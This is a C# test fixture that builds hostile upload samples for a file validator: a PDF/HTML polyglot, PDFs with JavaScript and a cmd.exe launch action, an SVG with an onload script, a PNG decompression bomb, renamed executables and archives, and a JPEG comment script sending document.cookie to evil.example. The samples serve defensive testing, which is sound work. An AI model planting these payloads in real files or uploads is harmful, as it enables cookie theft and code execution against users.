using System.Buffers.Binary;
using System.Text;
using Fairtrade.Silo.Tests.Infrastructure;

namespace Fairtrade.Silo.Tests.Hostile;

/// <summary>Files made to be more, or other, than they claim: each must be refused by its content.</summary>
public static class HostileFiles
{
    public static byte[] PdfThatIsAlsoHtml() =>
        Ascii("%PDF-1.7\n%<html><body><script>fetch('/api/me').then(r=>r.text()).then(alert)</script></body></html>\n1 0 obj\n<<>>\nendobj\n%%EOF\n");

    public static byte[] PdfWithJavaScript() =>
        Ascii("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n");

    public static byte[] PdfThatLaunchesAProgram() =>
        Ascii("%PDF-1.7\n1 0 obj\n<< /Type /Action /S /Launch /F (cmd.exe) >>\nendobj\n%%EOF\n");

    /// <summary>A JPEG whose comment segment (COM, FF FE) carries a script, far into the file.</summary>
    public static byte[] JpegWithScriptInItsComment()
    {
        var comment = Ascii("<SCRIPT>document.location='https://evil.example/'+document.cookie</SCRIPT>");
        var length = new byte[2];
        BinaryPrimitives.WriteUInt16BigEndian(length, (ushort)(comment.Length + 2));
        return [.. Samples.Jpeg(200_000), 0xFF, 0xFE, .. length, .. comment, 0xFF, 0xD9];
    }

    /// <summary>A few hundred bytes whose header claims an image of 100,000 × 100,000 pixels.</summary>
    public static byte[] PngBomb()
    {
        var size = new byte[8];
        BinaryPrimitives.WriteUInt32BigEndian(size, 100_000);
        BinaryPrimitives.WriteUInt32BigEndian(size.AsSpan(4), 100_000);
        return [0x89, .. "PNG\r\n"u8, 0x1A, .. "\n"u8, 0x00, 0x00, 0x00, 0x0D, .. "IHDR"u8, .. size, 0x08, 0x02, 0x00, 0x00, 0x00, .. new byte[300]];
    }

    public static byte[] SvgRenamedPng() =>
        Ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\"><rect width=\"10\" height=\"10\"/></svg>");

    public static byte[] HtmlRenamedPdf() => Samples.Html(2_000);

    public static byte[] ZipRenamedPdf() => [.. "PK\u0003\u0004"u8, .. new byte[2_000]];

    public static byte[] ProgramRenamedJpeg() => [.. "MZ"u8, 0x90, 0x00, .. new byte[2_000]];

    private static byte[] Ascii(string text) => Encoding.ASCII.GetBytes(text);
}
